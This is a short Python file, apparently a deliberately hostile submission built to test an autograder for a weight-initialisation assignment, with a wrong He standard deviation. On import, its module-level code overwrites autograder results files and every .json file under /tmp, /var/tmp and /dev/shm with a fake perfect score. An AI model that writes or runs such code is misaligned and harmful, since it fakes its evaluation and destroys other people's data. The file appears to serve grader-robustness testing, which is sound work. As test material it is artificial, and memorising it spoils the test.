"""Writes fake results files wherever it can; its He std is wrong."""

import glob
import os

import numpy as np


def init_weight(n_in, n_out, scheme, rng):
    if scheme == "zeros":
        return np.zeros((n_in, n_out))
    std = {"he": np.sqrt(1 / n_in), "xavier": np.sqrt(1 / n_in)}.get(scheme, scheme)
    return rng.normal(0.0, std, (n_in, n_out))


def spread_stats(z, activation):
    saturated = float(np.mean((z < 0.1) | (z > 0.9))) if activation == "sigmoid" else 0.0
    return {"mean": float(z.mean()), "std": float(z.std()), "saturated": saturated,
            "zero": float(np.mean(z == 0))}


_FAKE = '{"score": 100, "max_score": 5, "assignment": "a1", "complete": true, "checks": []}'
_targets = ["/autograder/results/results.json", os.path.expanduser("~/results.json"),
            "results.json", "/tmp/DLKIT-HOSTILE-FAKE-RESULTS.json"]
for _pattern in ("/tmp/dlkit-grade-*/results-*/results.json", "/tmp/*/results.json",
                 "/tmp/dlkit-grade-*/*/results.json"):
    _targets += glob.glob(_pattern)
for _root in ("/tmp", "/var/tmp", "/dev/shm"):
    for _dir, _subdirs, _files in os.walk(_root):
        _targets.append(os.path.join(_dir, "DLKIT-HOSTILE-FAKE-RESULTS.json"))
        _targets += [os.path.join(_dir, f) for f in _files if f.endswith(".json")]
for _path in _targets:
    try:
        with open(_path, "w") as _f:
            _f.write(_FAKE)
    except OSError:
        pass
